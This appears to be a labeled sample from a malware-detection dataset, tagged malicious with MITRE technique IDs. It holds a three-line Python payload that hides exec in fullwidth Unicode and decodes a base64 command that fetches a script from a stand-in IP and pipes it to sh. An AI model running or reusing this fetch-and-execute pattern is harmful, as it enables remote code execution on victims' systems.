# label: malicious family=unicode techniques=T1027,T1036,T1059.004,T1059.006,T1105,T1140 lines=3
import base64
ｅｘｅｃ(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjEyL258c2giKQ=="))
